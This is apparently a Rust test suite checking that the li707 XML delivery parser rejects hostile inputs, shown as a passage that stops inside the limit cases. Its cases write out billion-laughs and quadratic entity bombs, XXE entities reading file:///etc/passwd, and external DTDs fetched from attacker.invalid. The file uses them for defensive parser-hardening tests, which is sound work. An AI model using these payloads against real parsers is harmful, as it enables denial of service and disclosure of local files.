//! The hostile-input suite: documents built to hurt a reader (entity expansion, external
//! entities, deep nesting, huge text, attribute floods, broken encodings, namespace tricks,
//! malformed markup, truncation at every tag boundary of the sample delivery).
//!
//! Every case runs through the three ways in: `li707::read` and
//! `li707::schema::Document::{from_xml, validate_xml}` (their `_with` forms when the case sets
//! limits). Each must return a *specific* error (the `ErrorKind` variant, and for
//! `ErrorKind::Limit` the name of the limit), must not panic, and the report must stay within
//! `max_errors`. Memory is bounded through the limits: a case that would need unbounded work
//! expects the specific `Limit` error, never a timing.
//!
//! Cases that li707 gets wrong today are listed in [`KNOWN_BUGS`]; the suite asserts that they
//! still misbehave, so a fix makes it fail until the entry is removed.

use li707::schema::Document;
use li707::xml::ReadLimits;
use li707::{read, ErrorKind, Limits, Report};
use std::panic::{catch_unwind, AssertUnwindSafe};

const SAMPLE: &str = include_str!("data/sample_delivery.xml");
const CORE: &str = "http://uri.etsi.org/03120/common/2019/10/Core";
const XSI: &str = "http://www.w3.org/2001/XMLSchema-instance";
const MB: usize = 1024 * 1024;

/// Cases li707 gets wrong today: (case name, what goes wrong). The suite asserts that each
/// still misbehaves (and never panics); remove the entry when li707 is fixed.
///
/// Root causes:
/// - SKIP: `validate_xml` skips xs:anyType and wildcard content (`skip_content`) looking only at
///   element nesting and entity references, so `validate_xml` accepts what `from_xml` refuses,
///   and `read` then returns no delivery with an EMPTY report.
/// - WF: well-formedness rules that quick-xml does not check and li707 does not add.
/// - RAWTEXT: `max_text_len` is not applied to raw text (`push_text` in `xml/raw.rs`).
/// - NSLIMIT: quick-xml's fixed limit of 128 namespace bindings in scope surfaces as
///   `Syntax("well-formedness: …")`, not as a `Limit`, and `Limits` cannot set it.
/// - KIND: rejected, but with another error kind than the one that describes the input.
const KNOWN_BUGS: &[(&str, &str)] = &[];

// ---------------------------------------------------------------------------------------------
// The engine: a case, what it expects, and the checks of the three entry points.
// ---------------------------------------------------------------------------------------------

/// What a case expects from an entry point.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    /// Accepted: a delivery without errors (`read`), `Ok` (`from_xml`), a valid report.
    Valid,
    Syntax,
    Encoding,
    Doctype,
    UnknownEntity,
    UnboundPrefix,
    UnexpectedElement,
    UnexpectedText,
    UnexpectedAttribute,
    UnknownXsiType,
    AbstractType,
    Nil,
    Value,
    Undeclared,
    UnknownRoot,
    TrailingContent,
    /// `ErrorKind::Limit` with this `what`.
    Limit(&'static str),
}

impl Want {
    fn matches(self, kind: &ErrorKind) -> bool {
        match (self, kind) {
            (Want::Syntax, ErrorKind::Syntax(_))
            | (Want::Encoding, ErrorKind::Encoding(_))
            | (Want::Doctype, ErrorKind::Doctype)
            | (Want::UnknownEntity, ErrorKind::UnknownEntity(_))
            | (Want::UnboundPrefix, ErrorKind::UnboundPrefix(_))
            | (Want::UnexpectedElement, ErrorKind::UnexpectedElement { .. })
            | (Want::UnexpectedText, ErrorKind::UnexpectedText(_))
            | (Want::UnexpectedAttribute, ErrorKind::UnexpectedAttribute(_))
            | (Want::UnknownXsiType, ErrorKind::UnknownXsiType { .. })
            | (Want::AbstractType, ErrorKind::AbstractType(_))
            | (Want::Nil, ErrorKind::Nil(_))
            | (Want::Value, ErrorKind::Value(_))
            | (Want::Undeclared, ErrorKind::Undeclared(_))
            | (Want::UnknownRoot, ErrorKind::UnknownRoot(_))
            | (Want::TrailingContent, ErrorKind::TrailingContent) => true,
            (Want::Limit(want), ErrorKind::Limit { what, .. }) => want == *what,
            _ => false,
        }
    }
}

struct Case {
    name: String,
    input: Vec<u8>,
    limits: Limits,
    /// The first error of `read`.
    want: Want,
    /// The first error of the `Document` entry points, when it differs (they know no size
    /// or item limits).
    want_doc: Option<Want>,
    /// An error that must also be in the validation report (after the first one).
    also: Option<Want>,
    /// The limits of the `Document` entry points: `None` for `from_xml`/`validate_xml` with
    /// their defaults, otherwise `from_xml_with_limits`/`validate_xml_with`.
    doc_limits: Option<ReadLimits>,
    /// Only `read` (it runs `from_xml_with_limits` and `validate_xml_with` itself): for the
    /// 200 MB input, where every pass costs seconds in a debug build.
    read_only: bool,
}

fn case(name: &str, input: impl Into<Vec<u8>>, want: Want) -> Case {
    Case {
        name: name.to_owned(),
        input: input.into(),
        limits: Limits::default(),
        want,
        want_doc: None,
        also: None,
        doc_limits: None,
        read_only: false,
    }
}

impl Case {
    /// Limits for `read`, and the reader limits `read` derives from them for the `Document`
    /// entry points.
    fn limits(mut self, limits: Limits) -> Case {
        self.doc_limits = Some(reader_limits(&limits));
        self.limits = limits;
        self
    }
    fn read_only(mut self) -> Case {
        self.read_only = true;
        self
    }
    fn doc(mut self, want: Want) -> Case {
        self.want_doc = Some(want);
        self
    }
    fn also(mut self, want: Want) -> Case {
        self.also = Some(want);
        self
    }
}

/// The reader limits `read` derives from `limits` (max_depth, max_text_len, max_elements).
fn reader_limits(limits: &Limits) -> ReadLimits {
    ReadLimits {
        max_depth: limits.max_depth,
        max_text_len: limits.max_text_len,
        max_elements: limits.max_elements,
        ..ReadLimits::default()
    }
}

fn short(s: impl std::fmt::Display) -> String {
    let s = s.to_string();
    match s.char_indices().nth(240) {
        Some((cut, _)) => format!("{}… ({} bytes)", &s[..cut], s.len()),
        None => s,
    }
}

fn first(report: &Report) -> String {
    report
        .errors
        .first()
        .map_or_else(|| "no error".to_owned(), short)
}

fn check_report(api: &str, report: &Report, want: Want, max: usize, problems: &mut Vec<String>) {
    if report.errors.len() > max {
        problems.push(format!(
            "{api}: {} errors, above max_errors {max}",
            report.errors.len()
        ));
    }
    let ok = match want {
        Want::Valid => report.is_valid(),
        _ => report
            .errors
            .first()
            .is_some_and(|e| want.matches(e.kind())),
    };
    if !ok {
        problems.push(format!(
            "{api}: expected {want:?}, first error: {}",
            first(report)
        ));
    }
}

fn guarded<T>(api: &str, problems: &mut Vec<String>, f: impl FnOnce() -> T) -> Option<T> {
    match catch_unwind(AssertUnwindSafe(f)) {
        Ok(v) => Some(v),
        Err(p) => {
            let msg = p
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| p.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                .unwrap_or_default();
            problems.push(format!("{api}: PANIC {}", short(msg)));
            None
        }
    }
}

/// Runs the case through the three entry points; returns what is wrong (empty when all is
/// as expected).
fn check(case: &Case) -> Vec<String> {
    let mut problems = Vec::new();
    let input = &case.input[..];
    let limits = &case.limits;
    let want_doc = case.want_doc.unwrap_or(case.want);

    if let Some(reading) = guarded("read", &mut problems, || read(input, limits)) {
        match (case.want, &reading.delivery) {
            (Want::Valid, None) => problems.push(format!(
                "read: expected a delivery, got none; first error: {}",
                first(&reading.report)
            )),
            (Want::Valid, Some(_)) => {}
            (_, Some(_)) => problems.push(format!(
                "read: ACCEPTED a delivery, expected {:?}; report: {}",
                case.want,
                first(&reading.report)
            )),
            (_, None) => {}
        }
        check_report(
            "read",
            &reading.report,
            case.want,
            limits.max_errors,
            &mut problems,
        );
    }

    if case.read_only {
        return problems;
    }
    let parsed = guarded("from_xml", &mut problems, || match case.doc_limits {
        None => Document::from_xml(input),
        Some(l) => Document::from_xml_with_limits(input, l),
    });
    match (want_doc, parsed) {
        (_, None) | (Want::Valid, Some(Ok(_))) => {}
        (Want::Valid, Some(Err(e))) => {
            problems.push(format!("from_xml: expected Ok, got {}", short(e)))
        }
        (want, Some(Ok(_))) => problems.push(format!("from_xml: ACCEPTED, expected {want:?}")),
        (want, Some(Err(e))) => {
            if !want.matches(e.kind()) {
                problems.push(format!("from_xml: expected {want:?}, got {}", short(&e)));
            }
        }
    }

    let max_errors = match case.doc_limits {
        None => li707::DEFAULT_ERROR_LIMIT,
        Some(_) => limits.max_errors,
    };
    if let Some(report) = guarded("validate_xml", &mut problems, || match case.doc_limits {
        None => Document::validate_xml(input),
        Some(l) => Document::validate_xml_with(input, l, limits.max_errors),
    }) {
        check_report("validate_xml", &report, want_doc, max_errors, &mut problems);
        if let Some(also) = case.also {
            if !report.errors.iter().any(|e| also.matches(e.kind())) {
                problems.push(format!("validate_xml: expected also {also:?}: {report}"));
            }
        }
    }
    problems
}

/// Prints one summary line past libtest's output capture (which takes only the print macros),
/// so that the CI log shows the counts on success too.
fn announce(line: &str) {
    use std::io::Write;
    let _ = writeln!(std::io::stdout().lock(), "{line}");
}

/// Runs `cases`: every case not in [`KNOWN_BUGS`] must behave, every case in it must still
/// misbehave.
fn run(suite: &str, cases: Vec<Case>) {
    let mut failures = Vec::new();
    let mut fixed = Vec::new();
    let mut names = std::collections::HashSet::new();
    for case in &cases {
        assert!(names.insert(case.name.as_str()), "duplicate {}", case.name);
        let problems = check(case);
        let known = KNOWN_BUGS.iter().find(|(n, _)| *n == case.name);
        if problems.iter().any(|p| p.contains("PANIC")) {
            failures.push(format!("{}:\n    {}", case.name, problems.join("\n    ")));
            continue;
        }
        match (problems.is_empty(), known) {
            (true, None) => println!("ok         {} (expects {:?})", case.name, case.want),
            (false, Some((_, why))) => {
                println!("KNOWN BUG  {}: {why}", case.name);
                for p in &problems {
                    println!("             {p}");
                }
            }
            (false, None) => {
                failures.push(format!("{}:\n    {}", case.name, problems.join("\n    ")))
            }
            (true, Some(_)) => fixed.push(case.name.clone()),
        }
    }
    announce(&format!("hostile: {suite}: {} cases", cases.len()));
    assert!(
        failures.is_empty(),
        "{suite}: {} of {} cases misbehave:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert!(
        fixed.is_empty(),
        "{suite}: fixed, remove from KNOWN_BUGS: {fixed:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Building documents from the sample delivery.
// ---------------------------------------------------------------------------------------------

/// The sample with the first `from` replaced by `to`.
fn edit(from: &str, to: &str) -> String {
    assert!(SAMPLE.contains(from), "the sample has no {from:?}");
    SAMPLE.replacen(from, to, 1)
}

/// The sample with a `Signature` (xs:anyType: any content) holding `content`.
fn with_signature(content: &str) -> String {
    with_signature_tag("<Signature>", content)
}

fn with_signature_tag(start: &str, content: &str) -> String {
    edit(
        "</Payload>",
        &format!("</Payload>\n  {start}{content}</Signature>"),
    )
}

/// The sample with `content` inside the first handover item's `xmlData` (a lax wildcard: an
/// undeclared element is kept as raw XML), within the CSP element.
fn in_xmldata(content: &str) -> String {
    let at = "<csp:eventType>messageSent</csp:eventType>";
    edit(at, &format!("{at}{content}"))
}

/// The sample with the first handover item's `UniqueIdentifier` text replaced.
fn sender_id(text: &str) -> String {
    edit(
        "<UniqueIdentifier>example-csp-messaging-01</UniqueIdentifier>",
        &format!("<UniqueIdentifier>{text}</UniqueIdentifier>"),
    )
}

/// The sample with `bytes` as the sender's `UniqueIdentifier` text (any bytes).
fn sender_id_bytes(bytes: &[u8]) -> Vec<u8> {
    with_bytes(&sender_id("\u{1}"), "\u{1}", bytes)
}

/// The sample with `content` at the start of `Header` (element-only content).
fn in_header(content: &str) -> String {
    edit("<Header>", &format!("<Header>{content}"))
}

/// The sample delivering `data` as `BinaryData` instead of `XMLData`.
fn binary_delivery(data: &str) -> String {
    let start = SAMPLE.find("<delivery:XMLData>").expect("XMLData");
    let end_tag = "</delivery:XMLData>";
    let end = SAMPLE.find(end_tag).expect("XMLData end") + end_tag.len();
    format!(
        "{}<delivery:BinaryData><delivery:Data>{data}</delivery:Data>\
         <delivery:ContentType>application/octet-stream</delivery:ContentType>\
         </delivery:BinaryData>{}",
        &SAMPLE[..start],
        &SAMPLE[end..]
    )
}

/// The sample after its XML declaration.
fn body() -> &'static str {
    let decl_end = SAMPLE.find("?>").expect("declaration") + 2;
    &SAMPLE[decl_end..]
}

fn with_bytes(text: &str, marker: &str, bytes: &[u8]) -> Vec<u8> {
    let at = text.find(marker).expect("marker");
    let mut out = text.as_bytes()[..at].to_vec();
    out.extend_from_slice(bytes);
    out.extend_from_slice(&text.as_bytes()[at + marker.len()..]);
    out
}

fn utf16(text: &str, bom: bool, big_endian: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len() * 2 + 2);
    let units = bom
        .then_some(0xfeff_u16)
        .into_iter()
        .chain(text.encode_utf16());
    for u in units {
        out.extend_from_slice(&if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

/// `n` nested `open`/`close` pairs, built in one allocation.
fn nested(n: usize, open: &str, close: &str) -> String {
    let mut s = String::with_capacity(n * (open.len() + close.len()));
    for _ in 0..n {
        s.push_str(open);
    }
    for _ in 0..n {
        s.push_str(close);
    }
    s
}

/// A start tag `<name` followed by `n` attributes produced by `attr(i)`, then `/>`.
fn many_attributes(name: &str, n: usize, attr: impl Fn(&mut String, usize)) -> String {
    let mut s = String::with_capacity(n * 16);
    s.push('<');
    s.push_str(name);
    for i in 0..n {
        s.push(' ');
        attr(&mut s, i);
    }
    s.push_str("/>");
    s
}

fn limits_text(max_text_len: usize) -> Limits {
    Limits {
        max_text_len,
        ..Limits::default()
    }
}

// ---------------------------------------------------------------------------------------------
// The cases.
// ---------------------------------------------------------------------------------------------

/// DTDs, entities and character references.
fn dtd_and_entity_cases() -> Vec<Case> {
    let mut laughs =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        laughs.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    laughs.push_str(&format!(
        "]>\n<HI1Message xmlns=\"{CORE}\">&lol9;</HI1Message>"
    ));

    // Quadratic blow-up: one 100 kB entity referenced 100,000 times (10 GB if expanded).
    let quadratic = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE HI1Message [<!ENTITY a \"{}\">]>{}",
        "a".repeat(100_000),
        edit(
            "<UniqueIdentifier>example-csp-messaging-01</UniqueIdentifier>",
            &format!(
                "<UniqueIdentifier>{}</UniqueIdentifier>",
                "&a;".repeat(100_000)
            )
        )
        .split_once("?>")
        .expect("declaration")
        .1
    );
    let doctype = |dtd: &str| format!("<?xml version=\"1.0\"?>\n{dtd}{}", body());
    vec![
        case("dtd_billion_laughs", laughs, Want::Doctype),
        case("dtd_quadratic_blowup", quadratic, Want::Doctype),
        case(
            "dtd_xxe_system_file",
            doctype("<!DOCTYPE HI1Message [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            Want::Doctype,
        ),
        case(
            "dtd_xxe_system_http",
            doctype("<!DOCTYPE HI1Message [<!ENTITY x SYSTEM \"http://attacker.invalid/x\">]>"),
            Want::Doctype,
        ),
        case(
            "dtd_external_subset_http",
            doctype("<!DOCTYPE HI1Message SYSTEM \"http://attacker.invalid/evil.dtd\">"),
            Want::Doctype,
        ),
        case(
            "dtd_external_subset_public",
            doctype(
                "<!DOCTYPE HI1Message PUBLIC \"-//EVIL//DTD X//EN\" \"http://attacker.invalid/x.dtd\">",
            ),
            Want::Doctype,
        ),
        case(
            "dtd_parameter_entity_http",
            doctype(
                "<!DOCTYPE HI1Message [<!ENTITY % p SYSTEM \"http://attacker.invalid/p.dtd\"> %p;]>",
            ),
            Want::Doctype,
        ),
        case(
            "dtd_attlist_default_xsi_type",
            doctype(&format!(
                "<!DOCTYPE HI1Message [<!ATTLIST HI1Object xmlns:xsi CDATA \"{XSI}\">]>"
            )),
            Want::Doctype,
        ),
        case(
            "dtd_inside_an_element",
            in_header("<!DOCTYPE x [<!ENTITY y \"z\">]>"),
            Want::Doctype,
        ),
        case(
            "entity_undeclared_in_text",
            sender_id("&xxe;"),
            Want::UnknownEntity,
        ),
        case(
            "entity_undeclared_in_element_content",
            in_header("&xxe;"),
            Want::UnknownEntity,
        ),
        case(
            "entity_undeclared_in_xsi_type_value",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"delivery:&xxe;\"",
            ),
            Want::UnknownEntity,
        ),
        case(
            "entity_undeclared_in_attribute_raw",
            with_signature("<x a=\"&xxe;\"/>"),
            Want::UnknownEntity,
        ),
        case(
            "entity_unterminated_name",
            sender_id("a&amp b"),
            Want::Syntax,
        ),
        case("entity_bare_ampersand", sender_id("a & b"), Want::Syntax),
        case("entity_unterminated_at_eof", format!("{}&amp", &SAMPLE[..SAMPLE.find("example-csp").expect("id")]), Want::Syntax),
        case("charref_nul", sender_id("a&#0;b"), Want::Syntax),
        case("charref_nul_hex", sender_id("a&#x0;b"), Want::Syntax),
        case("charref_surrogate", sender_id("&#xD800;"), Want::Syntax),
        case("charref_above_unicode", sender_id("&#x110000;"), Want::Syntax),
        case("charref_control_char", sender_id("&#1;"), Want::Syntax),
        case("charref_noncharacter_fffe", sender_id("&#xFFFE;"), Want::Syntax),
        case("charref_empty", sender_id("&#;"), Want::Syntax),
        case("charref_bad_hex_digits", sender_id("&#xZZ;"), Want::Syntax),
        case(
            "charref_overflowing_number",
            sender_id("&#99999999999999999999999999;"),
            Want::Syntax,
        ),
        case(
            "charref_nul_in_element_content",
            in_header("&#0;"),
            Want::Syntax,
        ),
        case(
            "charref_nul_in_signature_anytype",
            with_signature("&#0;"),
            Want::Syntax,
        ),
    ]
}

/// Encodings and byte order marks.
fn encoding_cases() -> Vec<Case> {
    let bad = |name: &str, bytes: &[u8]| case(name, sender_id_bytes(bytes), Want::Encoding);
    let decl = |enc: &str| {
        case(
            &format!("encoding_declared_{}", enc.to_lowercase().replace('-', "_")),
            SAMPLE.replacen("encoding=\"UTF-8\"", &format!("encoding=\"{enc}\""), 1),
            Want::Encoding,
        )
    };
    let mut bom = b"\xef\xbb\xbf".to_vec();
    bom.extend_from_slice(SAMPLE.as_bytes());
    let utf16_sample = SAMPLE.replacen("encoding=\"UTF-8\"", "encoding=\"UTF-16\"", 1);
    vec![
        bad("utf8_lone_continuation_byte", &[0x80]),
        bad("utf8_overlong_slash", &[0xc0, 0xaf]),
        bad("utf8_overlong_nul", &[0xc0, 0x80]),
        bad("utf8_encoded_surrogate", &[0xed, 0xa0, 0x80]),
        bad("utf8_five_byte_sequence", &[0xf8, 0x88, 0x80, 0x80, 0x80]),
        bad("utf8_above_u10ffff", &[0xf4, 0x90, 0x80, 0x80]),
        bad("utf8_ff_fe_bytes", &[0xff, 0xfe]),
        bad("utf8_truncated_sequence_mid_text", &[0xe2, 0x82, b'x']),
        case(
            "utf8_truncated_sequence_at_eof",
            [SAMPLE.as_bytes(), &[0xe2, 0x82]].concat(),
            Want::Encoding,
        ),
        case(
            "utf8_invalid_in_attribute_value",
            with_bytes(SAMPLE, "delivery:DeliveryObject", &[b'x', 0xfe, b'y']),
            Want::Encoding,
        ),
        case(
            "utf8_invalid_in_element_name",
            with_bytes(SAMPLE, "<Header>", &[b'<', b'H', 0xc3, b'>']),
            Want::Encoding,
        ),
        decl("UTF-16"),
        decl("ISO-8859-1"),
        decl("windows-1252"),
        decl("x-made-up"),
        case("bom_utf8_is_fine", bom, Want::Valid),
        case(
            "bom_utf16le_with_utf16le_text",
            utf16(&utf16_sample, true, false),
            Want::Encoding,
        ),
        case(
            "bom_utf16be_with_utf16be_text",
            utf16(&utf16_sample, true, true),
            Want::Encoding,
        ),
        case(
            "bom_utf16le_before_utf8_text",
            [&[0xff, 0xfe], SAMPLE.as_bytes()].concat(),
            Want::Encoding,
        ),
        case(
            "utf16le_without_bom",
            utf16(&utf16_sample, false, false),
            Want::Syntax,
        ),
        case(
            "bom_utf8_twice",
            format!("\u{feff}\u{feff}{SAMPLE}"),
            Want::Syntax,
        ),
        case(
            "bom_after_the_declaration",
            edit("?>", "?>\u{feff}"),
            Want::Syntax,
        ),
        case(
            "bom_in_element_only_content",
            in_header("\u{feff}"),
            Want::UnexpectedText,
        ),
    ]
}

/// Namespaces, prefixes and xsi:type.
fn namespace_cases() -> Vec<Case> {
    vec![
        case(
            "ns_unbound_root_prefix",
            format!("<evil:HI1Message xmlns=\"{CORE}\"/>"),
            Want::UnboundPrefix,
        ),
        case(
            "ns_unbound_element_prefix",
            in_header("<evil:SenderIdentifier/>"),
            Want::UnboundPrefix,
        ),
        case(
            "ns_unbound_attribute_prefix",
            edit("<Header>", "<Header evil:a=\"1\">"),
            Want::UnboundPrefix,
        ),
        case(
            "ns_unbound_attribute_prefix_in_signature",
            with_signature("<x evil:a=\"1\"/>"),
            Want::UnboundPrefix,
        ),
        case(
            "ns_unbound_prefix_in_xsi_type_value",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"evil:DeliveryObject\"",
            ),
            Want::UnboundPrefix,
        ),
        case(
            "ns_xsi_prefix_never_bound",
            edit(&format!("xmlns:xsi=\"{XSI}\""), ""),
            Want::UnboundPrefix,
        ),
        case(
            "ns_prefix_rebound_mid_document",
            edit(
                "<delivery:Reference>",
                "<delivery:Reference xmlns:delivery=\"urn:evil:delivery\">",
            ),
            Want::UnexpectedElement,
        ),
        case(
            "ns_prefix_rebound_to_core",
            edit(
                "<delivery:DeliveryID>",
                &format!("<delivery:DeliveryID xmlns:delivery=\"{CORE}\">"),
            ),
            Want::UnexpectedElement,
        ),
        case(
            "ns_default_namespace_rebound",
            edit("<Header>", "<Header xmlns=\"urn:evil\">"),
            Want::UnexpectedElement,
        ),
        case(
            "ns_default_namespace_undeclared",
            edit("<Payload>", "<Payload xmlns=\"\">"),
            Want::UnexpectedElement,
        ),
        case(
            "ns_spoofed_header_in_delivery_namespace",
            edit("<Header>", "<delivery:Header>").replacen("</Header>", "</delivery:Header>", 1),
            Want::UnexpectedElement,
        ),
        case(
            "ns_spoofed_root_in_older_core_namespace",
            SAMPLE.replacen(CORE, "http://uri.etsi.org/03120/common/2017/10/Core", 1),
            Want::UnknownRoot,
        ),
        case(
            "ns_root_without_namespace",
            "<HI1Message><Header/></HI1Message>",
            Want::UnknownRoot,
        ),
        case(
            "ns_xml_prefix_rebound",
            edit("<Header>", "<Header xmlns:xml=\"urn:evil\">"),
            Want::Syntax,
        ),
        case(
            "ns_xmlns_prefix_declared",
            edit("<Header>", "<Header xmlns:xmlns=\"urn:evil\">"),
            Want::Syntax,
        ),
        case(
            "ns_prefix_bound_to_empty_then_used",
            // Namespaces in XML 1.0 does not allow undeclaring a prefix: the declaration
            // itself is the error, before the prefix is used.
            edit("<Header>", "<Header xmlns:p=\"\"><p:x/>"),
            Want::Syntax,
        ),
        case(
            "ns_prefix_bound_to_empty",
            edit("<Header>", "<Header xmlns:p=\"\">"),
            Want::Syntax,
        ),
        case(
            "ns_strict_wildcard_undeclared_element",
            edit(
                "<delivery:XMLData>",
                "<delivery:XMLData><evil:x xmlns:evil=\"urn:evil\"/>",
            ),
            Want::Undeclared,
        ),
        case(
            "ns_xsi_type_spoofed_namespace",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xmlns:evil=\"urn:evil\" xsi:type=\"evil:DeliveryObject\"",
            ),
            Want::UnknownXsiType,
        ),
        case(
            "xsi_type_unknown",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"delivery:NoSuchObject\"",
            ),
            Want::UnknownXsiType,
        ),
        case(
            "xsi_type_missing_on_abstract_hi1object",
            edit(" xsi:type=\"delivery:DeliveryObject\"", ""),
            Want::AbstractType,
        ),
        case(
            "xsi_type_missing_on_abstract_payload",
            edit(" xsi:type=\"etsi707:MessagingPayload\"", ""),
            Want::AbstractType,
        ),
        case(
            "xsi_type_names_the_abstract_type",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"HI1Object\"",
            ),
            Want::AbstractType,
        ),
        case(
            "xsi_type_unrelated_type",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"etsi707:MessagingPayload\"",
            ),
            Want::UnknownXsiType,
        ),
        case(
            "xsi_type_on_an_element_of_another_type",
            edit("<Header>", "<Header xsi:type=\"delivery:DeliveryObject\">"),
            Want::UnknownXsiType,
        ),
        case(
            "xsi_type_empty_value",
            edit("xsi:type=\"delivery:DeliveryObject\"", "xsi:type=\"\""),
            Want::UnknownXsiType,
        ),
        case(
            "xsi_nil_on_a_non_nillable_element",
            edit("<Header>", "<Header xsi:nil=\"true\">"),
            Want::Nil,
        ),
    ]
}

/// Attributes, base64, well-formedness of markup, comments, PIs, CDATA, roots.
fn markup_cases() -> Vec<Case> {
    let nested_doc = format!("{SAMPLE}{SAMPLE}");
    vec![
        case(
            "attr_duplicate_on_typed_element",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                "xsi:type=\"delivery:DeliveryObject\" xsi:type=\"delivery:DeliveryObject\"",
            ),
            Want::Syntax,
        ),
        case(
            "attr_duplicate_in_signature_anytype",
            with_signature("<x a=\"1\" a=\"2\"/>"),
            Want::Syntax,
        ),
        case(
            "attr_duplicate_namespace_declaration",
            edit("<Header>", "<Header xmlns:a=\"urn:a\" xmlns:a=\"urn:b\">"),
            Want::Syntax,
        ),
        case(
            "attr_duplicate_expanded_name_raw",
            in_xmldata("<csp:x xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:k=\"1\" b:k=\"2\"/>"),
            Want::Syntax,
        ),
        case(
            "attr_duplicate_expanded_name_xsi_type",
            edit(
                "xsi:type=\"delivery:DeliveryObject\"",
                &format!(
                    "xmlns:x2=\"{XSI}\" xsi:type=\"delivery:DeliveryObject\" x2:type=\"delivery:DeliveryObject\""
                ),
            ),
            Want::Syntax,
        ),
        case(
            "attr_unquoted_value",
            edit("<Header>", "<Header a=1>"),
            Want::Syntax,
        ),
        case(
            "attr_lt_in_value",
            with_signature("<x a=\"<\"/>"),
            Want::Syntax,
        ),
        case(
            "attr_without_value",
            edit("<Header>", "<Header a>"),
            Want::Syntax,
        ),
        case(
            "attr_undeclared_on_header",
            edit("<Header>", "<Header a=\"1\">"),
            Want::UnexpectedAttribute,
        ),
        case(
            "base64_malformed_characters",
            binary_delivery("!!!not base64!!!"),
            Want::Value,
        ),
        case(
            "base64_bad_padding",
            binary_delivery("QUJD=RA=="),
            Want::Value,
        ),
        case(
            "base64_bad_length",
            binary_delivery("QUJDRA="),
            Want::Value,
        ),
        case(
            "comment_before_the_declaration",
            format!("<!-- first -->{SAMPLE}"),
            Want::Syntax,
        ),
        case(
            "whitespace_before_the_declaration",
            format!("\n {SAMPLE}"),
            Want::Syntax,
        ),
        case(
            "declaration_twice",
            format!("<?xml version=\"1.0\"?>{SAMPLE}"),
            Want::Syntax,
        ),
        case(
            "pi_named_xml_mid_document",
            in_header("<?xml version=\"1.0\"?>"),
            Want::Syntax,
        ),
        case(
            "pi_named_xml_in_signature_anytype",
            with_signature("<?xml version=\"1.0\"?>"),
            Want::Syntax,
        ),
        case(
            "comment_with_double_hyphen",
            in_header("<!-- a -- b -->"),
            Want::Syntax,
        ),
        case(
            "comment_ending_with_three_hyphens",
            in_header("<!-- a --->"),
            Want::Syntax,
        ),
        case(
            "comment_inside_a_start_tag",
            edit("<Header>", "<Header <!-- x -->>"),
            Want::Syntax,
        ),
        case(
            "comment_unterminated",
            in_header("<!-- never closed"),
            Want::Syntax,
        ),
        case(
            "cdata_close_marker_in_text",
            sender_id("a]]>b"),
            Want::Syntax,
        ),
        case(
            "cdata_nested",
            sender_id("<![CDATA[a<![CDATA[b]]>c]]>"),
            Want::Syntax,
        ),
        case(
            "cdata_unterminated",
            sender_id("<![CDATA[never closed"),
            Want::Syntax,
        ),
        case(
            "cdata_in_element_only_content",
            in_header("<![CDATA[x]]>"),
            Want::UnexpectedText,
        ),
        case(
            "cdata_before_the_root",
            edit("<HI1Message", "<![CDATA[x]]><HI1Message"),
            Want::Syntax,
        ),
        case(
            "two_roots",
            format!("{SAMPLE}<HI1Message xmlns=\"{CORE}\"/>"),
            Want::TrailingContent,
        ),
        case("nested_document_appended", nested_doc, Want::TrailingContent),
        case(
            "trailing_text_after_the_root",
            format!("{SAMPLE}garbage"),
            Want::TrailingContent,
        ),
        case(
            "trailing_lt_after_the_root",
            format!("{SAMPLE}<"),
            Want::Syntax,
        ),
        case(
            "trailing_end_tag_after_the_root",
            format!("{SAMPLE}</HI1Message>"),
            Want::Syntax,
        ),
        case("empty_input", "", Want::Syntax),
        case("only_whitespace", " \n\t\r\n ", Want::Syntax),
        case(
            "only_declaration_and_comment",
            "<?xml version=\"1.0\"?><!-- nothing -->",
            Want::Syntax,
        ),
        case("only_an_end_tag", "</HI1Message>", Want::Syntax),
        case(
            "text_before_the_root",
            edit("<HI1Message", "text<HI1Message"),
            Want::Syntax,
        ),
        case(
            "mismatched_end_tag",
            edit("</Header>", "</Headers>"),
            Want::Syntax,
        ),
        case("nul_byte_in_text", sender_id("a\0b"), Want::Syntax),
        case(
            "nul_byte_in_element_content",
            in_header("\0"),
            Want::Syntax,
        ),
        case(
            "nul_byte_in_element_name",
            with_signature("<a\0b/>"),
            Want::Syntax,
        ),
        case("nul_byte_alone", "\0", Want::Syntax),
        case(
            "control_char_in_text",
            sender_id("a\u{1}b"),
            Want::Syntax,
        ),
        case(
            "noncharacter_fffe_in_text",
            sender_id("a\u{fffe}b"),
            Want::Syntax,
        ),
        case(
            "nul_byte_in_signature_anytype_text",
            with_signature("a\0b"),
            Want::Syntax,
        ),
        case(
            "control_char_in_signature_anytype_text",
            with_signature("a\u{1}b"),
            Want::Syntax,
        ),
        case(
            "charref_control_char_in_signature_anytype",
            with_signature("&#1;"),
            Want::Syntax,
        ),
        case(
            "cdata_close_marker_in_signature_anytype",
            with_signature("a]]>b"),
            Want::Syntax,
        ),
        case(
            "name_starting_with_a_digit",
            with_signature("<1x/>"),
            Want::Syntax,
        ),
    ]
}

/// Limits with sizes small enough for the main table.
fn limit_cases() -> Vec<Case> {
    let two_mb = "a".repeat(2 * MB);
    let b64 = "QUJD".repeat(MB / 2); // 2 MB of valid base64
    vec![
        case(
            "limit_depth_of_the_sample",
